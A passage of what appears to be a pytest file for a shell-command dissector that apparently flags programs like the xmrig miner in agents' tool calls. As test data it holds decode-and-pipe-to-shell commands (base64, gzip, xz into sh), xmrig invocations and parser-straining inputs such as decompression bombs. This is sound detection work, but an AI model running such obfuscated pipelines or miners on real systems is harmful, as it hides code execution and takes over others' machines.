    **QUOTING,
    **REDIRECTS,
    **VARIABLES,
    **SUBSTITUTIONS,
    **WRAPPERS,
    **PAYLOADS,
    **DECODERS,
    **DAMAGE,
}


@pytest.mark.parametrize(("text", "expected"), CASES.items(), ids=[repr(text)[:60] for text in CASES])
def test_text_comes_to_its_parts(text, expected):
    assert [shown(part) for part in dissect(text)] == expected


@pytest.mark.parametrize(
    ("text", "executable", "path"),
    [
        ("/opt/m/xmrig -o p", "xmrig", "/opt/m/xmrig"),
        ("~/m/xmrig", "xmrig", "~/m/xmrig"),
        ("$HOME/xmrig", "xmrig", "$HOME/xmrig"),
        ("$(which /usr/bin/xmrig)", None, None),
        ("${M} -o p", None, None),
        ("./x*", None, None),
        ("'a b/c d'", "c d", "a b/c d"),
    ],
)
def test_executable_is_a_name_or_unknown(text, executable, path):
    part = dissect(text)[0]
    assert (part.executable, part.executable_path) == (executable, path)


@pytest.mark.parametrize(
    ("text", "stretches"),
    [
        ("sudo bash -lc 'cd /x && ./m'", ["sudo bash -lc 'cd /x && ./m'", "bash -lc 'cd /x && ./m'", "cd /x", "./m"]),
        ('ssh h "a; b c"', ['ssh h "a; b c"', "a", "b c"]),
        ('bash -c "a \\"b\\""', ['bash -c "a \\"b\\""', None]),
        ("bash <<'E'\na é\nb\nE", ["bash <<'E'", "a é", "b"]),
        ("é; a $(b)", ["é", "a $(b)", "b"]),
        ("echo YSBi | base64 -d | sh", ["echo YSBi", "base64 -d", "sh", None]),
        ("a > f x", ["a > f x"]),
    ],
)
def test_spans_point_at_the_text_where_it_stands_there(text, stretches):
    found = []
    for part in dissect(text):
        span = None if part.span_start is None else text.encode()[part.span_start : part.span_end].decode()
        found.append(span)
        assert span is None or span == part.text
    assert found == stretches


def test_depth_counts_carriers():
    parts = dissect("sudo sh -c 'eval \"a $(b)\"'")
    assert [(part.via, part.depth) for part in parts] == [
        ("top", 0),
        ("sudo", 1),
        ("sh_c", 2),
        ("substitution", 3),
        ("eval", 3),
    ]


def test_long_text_is_cut_and_says_so():
    text = "./m -o p\n" + "# " + "x" * TEXT_BYTES + "\n./n"
    parts = dissect(text)
    assert [part.executable for part in parts] == ["m", None]
    assert (parts[-1].via, parts[-1].notes) == ("rest", ("truncated",))
    assert (parts[-1].span_start, parts[-1].span_end) == (TEXT_BYTES, len(text))


def test_cut_does_not_tear_a_character():
    assert dissect("echo " + "é" * TEXT_BYTES)[-1].span_start == TEXT_BYTES - 1


def test_script_of_many_lines_is_read_whole():
    lines = [f'if [ -f "{n}" ]; then ./m -o p:{n} --x={n} & fi' for n in range(1000)]
    parts = dissect("\n".join(lines))
    assert [part.argv[-1] for part in parts] == [f"--x={n}" for n in range(1000)]
    assert not any("parse_error" in part.notes or "truncated" in part.notes for part in parts)


def test_wrappers_and_payloads_have_a_floor():
    parts = dissect("sudo " * 40 + "./m")
    assert len(parts) == 17
    assert "payload_limit" in parts[-1].notes
    parts = dissect("eval " * 8 + "./m")
    assert [part.executable for part in parts] == ["eval"] * 7
    assert "payload_limit" in parts[-1].notes
    assert len(dissect("a $(" * 60 + "b" + ")" * 60)) <= 34


def test_decoders_in_a_row_are_three():
    data = b"./m"
    for _ in range(4):
        data = base64.b64encode(data)
    assert dissect(f"echo {data.decode()}" + " | base64 -d" * 4 + " | sh")[-1].executable == "sh"
    once_less = base64.b64decode(data).decode()
    assert dissect(f"echo {once_less}" + " | base64 -d" * 3 + " | sh")[-1].executable == "m"


@pytest.mark.parametrize(
    ("pack", "tool"), [(gzip.compress, "gzip -d"), (bz2.compress, "bzip2 -dc"), (lzma.compress, "xz --decompress")]
)
def test_packed_scripts_are_unpacked(pack, tool):
    packed = base64.b64encode(pack(b"./m -o p")).decode()
    part = dissect(f"echo {packed} | base64 -d | {tool} | sh")[-1]
    assert (part.argv, part.via) == (("./m", "-o", "p"), "base64")


HOSTILE = {
    "parentheses": "(" * 60_000,
    "nested substitutions": "$(" * 20_000 + "a" + ")" * 20_000,
    "one word": "echo " + "a" * 1_000_000,
    "pipes": " | ".join(["a"] * 20_000),
    "double quotes": '"' * 65_001,
    "heredocs": "cat <<A\n" * 8_000,
    "heredocs of one line": "cat " + "<<A " * 13_000,
    "doubling variable": "A=xxxxxxxxxx\n" + "A=$A$A\n" * 200 + "echo $A",
    "expensive variable": "A=" + "x" * 60_000 + "\n" + "echo $A;" * 600,
    "nested shells": 'bash -c "' * 3_000,
    "bombs": f"echo {base64.b64encode(gzip.compress(b'a;' * 500_000)).decode()} | base64 -d | gunzip | sh\n" * 40,
    "no shell": "(( [[ " + "||-" * 20_000 + "case ",
    "no shell in lines": ("(( [[ " + "||-" * 200 + "case \n") * 100,
    "dashes": "& " + "-" * 65_000 + "[ case ",
    "unclosed expansion": "${a:-" + "-a " * 20_000,
    "NULs": "a\0b;\0" * 10_000,
    "shell words": "if a; then " * 6_000,
    "odd words": "<<< ! ` " * 8_000 + "]] ",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_bounded(name):
    begun = time.process_time()
    parts = dissect(HOSTILE[name])
    assert time.process_time() - begun < 5
    assert len(parts) < TEXT_BYTES // 2 + PARTS
    assert sum(len(part.text) for part in parts) < 64 * TEXT_BYTES


SIGNS = (
    "a|./m |;|&|&&|(|)|{|}|$(|`|'|\"|\\|$|${|<<E\n|E\n|<|>|<<<|A=|$A|#|é|\ud800|\0|if |then |fi|do |done|echo |YQ==|"
    "base64 -d|sh -c |sudo |eval |xargs |ssh h |{a,b}|$'\\x|[[ |]]|((|))|-c | |\n"
)
TEXTS = st.one_of(
    st.text(max_size=200), st.lists(st.sampled_from([*SIGNS.split("|"), "|", "||"]), max_size=40).map("".join)
)


@given(TEXTS)
@settings(max_examples=400, deadline=None)
def test_any_text_comes_to_parts_that_fit_their_table(text):
    parts = dissect(text)
    assert parts == dissect(text)
    source = text.encode("utf-8", "backslashreplace")
    for number, part in enumerate(parts):
        assert part.part_no == number
        assert part.parent_no is None or part.parent_no < number
        assert part.depth == (0 if part.parent_no is None else parts[part.parent_no].depth + 1)
        if part.span_start is not None:
            assert 0 <= part.span_start <= part.span_end <= len(source)
            assert part.via == "rest" or source[part.span_start : part.span_end].decode() == part.text
        assert part.executable is None or part.argv
        json.dumps(part).encode("utf-8")


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12), min_size=1, max_size=6
    )
)
@settings(max_examples=300, deadline=None)
def test_quoted_words_come_back_as_they_were(words):
    words = ["./m", *words]
    part = dissect(shlex.join(words))[0]
    assert list(part.argv) == words


def commands_in(value):
    """Command texts of tool calls, from any transcript in JSON."""
    waiting = [value]
    while waiting:
        item = waiting.pop()
        if isinstance(item, dict):
            for key, inner in item.items():
                if key in {"command", "cmd"} and isinstance(inner, str):
                    yield inner
                elif key in {"arguments", "args"} and isinstance(inner, str) and inner.startswith("{"):
                    try:
                        waiting.append(json.loads(inner))
                    except ValueError:
                        continue
                else:
                    waiting.append(inner)
        elif isinstance(item, list):
            waiting.extend(item)


@pytest.mark.shared
def test_real_commands_are_read_without_fault(shared):
    texts = set()
    for path in sorted((shared / "data" / "transcripts").glob("*/*.json*")):
        for line in path.read_bytes().split(b"\n"):
            try:
                texts.update(commands_in(json.loads(line)))
            except ValueError:
                continue
    assert len(texts) > 200
    faulty = [text for text in sorted(texts) if any("parse_error" in part.notes for part in dissect(text))]
    assert len(faulty) <= len(texts) // 50
